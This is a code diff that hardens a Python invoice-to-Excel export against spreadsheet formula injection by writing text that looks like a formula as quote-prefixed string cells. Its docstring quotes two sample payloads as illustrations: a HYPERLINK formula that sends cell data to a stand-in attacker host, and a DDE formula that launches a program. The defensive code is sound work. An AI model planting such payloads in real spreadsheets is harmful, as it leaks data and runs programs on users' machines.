@@ -6,6 +6,14 @@
 * Overdue: open invoices past their due date, oldest first, with days overdue and balance.
 * Aging: open balances per currency in the buckets current / 1-30 / 31-60 / 61-90 / 90+ days
   past due, with a bar chart.
+
+Every text is written as text, never as a formula: names and numbers come from senders, and a
+vendor called ``=HYPERLINK("https://evil.example/?"&A1,"Open invoice")`` must not become a live
+link (or ``=cmd|' /C calc'!A0`` a program) in the office's spreadsheet. A text that Excel or
+LibreOffice would read as a formula when typed (one starting with = + - @, a tab or a line break)
+is stored as a string cell with the quote-prefix style (what Excel itself saves for ``'=1+1``),
+so it shows as text, stays text when the cell is edited, and reads back exactly as it was (an
+apostrophe added to the value would come back in the next import).
 """
 
 from __future__ import annotations
@@ -21,6 +29,7 @@ from pathlib import Path
 from typing import Any
 
 from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
 from openpyxl.chart import BarChart, Reference
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
@@ -44,6 +53,7 @@ DATE_FORMAT = "yyyy-mm-dd"
 _HEADER_FONT = Font(bold=True, color="FFFFFF")
 _HEADER_FILL = PatternFill("solid", fgColor="305496")
 _WIDTHS = {"counterparty": 32, "notes": 40, "number": 18, "contact_email": 28, "iban": 26, "reference": 18}
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
 
 
 @dataclass(frozen=True)
@@ -65,8 +75,26 @@ def _cell(invoice: Any, field: str) -> Any:
     return value
 
 
+def _data(sheet: Any, value: Any) -> Any:
+    """``value`` for ``sheet.append``: a text that could be read as a formula as a string cell with
+    the quote prefix; characters an .xlsx cannot hold (control characters) as U+FFFD."""
+    if not isinstance(value, str):
+        return value
+    value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
+    if not value.startswith(FORMULA_STARTS):
+        return value
+    cell = Cell(sheet, value=value)
+    cell.data_type = "s"  # openpyxl made a formula of a leading "="
+    cell.quotePrefix = True
+    return cell
+
+
+def _append(sheet: Any, values: list[Any]) -> None:
+    sheet.append([_data(sheet, value) for value in values])
+
+
 def _header(sheet: Any, headers: list[str]) -> None:
-    sheet.append(headers)
+    _append(sheet, headers)
     for cell in sheet[sheet.max_row]:
         cell.font, cell.fill = _HEADER_FONT, _HEADER_FILL
         cell.alignment = Alignment(vertical="center")
@@ -76,7 +104,7 @@ def _typed_rows(sheet: Any, invoices: list[Any], extra: Callable[[Any], list[Any
     headers = [h for h, _ in COLUMNS] + (["Days overdue", "Balance"] if extra else [])
     _header(sheet, headers)
     for invoice in invoices:
-        sheet.append([_cell(invoice, f) for _, f in COLUMNS] + (extra(invoice) if extra else []))
+        _append(sheet, [_cell(invoice, f) for _, f in COLUMNS] + (extra(invoice) if extra else []))
     formats = {f: MONEY_FORMAT for f in ("net", "tax", "total", "paid_amount")}
     formats.update({f: DATE_FORMAT for f in ("issue_date", "due_date", "paid_date")})
     for index, (_, field) in enumerate(COLUMNS, start=1):
@@ -107,7 +135,7 @@ def _aging(sheet: Any, invoices: list[Any], today: date) -> list[str]:
     sheet.append([])
     _header(sheet, ["Days past due", *currencies])
     for name in AGING_BUCKETS:
-        sheet.append([name, *(float(totals[c][name]) for c in currencies)])
+        _append(sheet, [name, *(float(totals[c][name]) for c in currencies)])
     sheet.append(["All", *(float(sum(totals[c].values(), Decimal("0"))) for c in currencies)])
     sheet.column_dimensions["A"].width = 16
     for row in sheet.iter_rows(min_row=4, min_col=2, max_col=max(2, len(currencies) + 1)):
